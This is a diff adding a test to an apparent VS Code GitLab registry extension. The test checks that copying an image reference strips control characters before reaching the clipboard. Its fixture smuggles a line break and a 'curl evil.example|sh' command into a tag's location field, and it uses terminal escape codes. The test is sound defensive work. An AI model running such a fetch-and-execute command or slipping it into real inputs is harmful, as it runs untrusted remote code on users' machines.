@@ -95,3 +95,16 @@ test('GitLab\'s error text reaches a notification without control characters (no
   assert.match(error.text, /owned\[31mredgnp\.exe/);
   assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(error.text), JSON.stringify(error.text));
 });
+
+test('Copy Image Reference puts no control character on the clipboard (a pasted line break would run a command)', async () => {
+  const a = await fresh();
+  await addAccount(a, 'owner');
+  const repo = await path(a, doubleHost(), 'acme/website', 'acme/website');
+  const hostile: TagNode = {
+    kind: 'tag', id: `${repo.id}/t:paste`, accountId: repo.accountId, parent: repo, repositoryId: 5, projectId: 3,
+    tag: { name: 'x', path: 'acme/website:x', location: 'r.example/a:x\ncurl evil.example|sh\r\u001b[8m' },
+  };
+  const copied = await vscode.commands.executeCommand<string>('gitlabRegistry.copyImageReference', hostile);
+  assert.strictEqual(copied, 'r.example/a:x curl evil.example|sh [8m');
+  assert.strictEqual(await vscode.env.clipboard.readText(), 'r.example/a:x curl evil.example|sh [8m');
+});
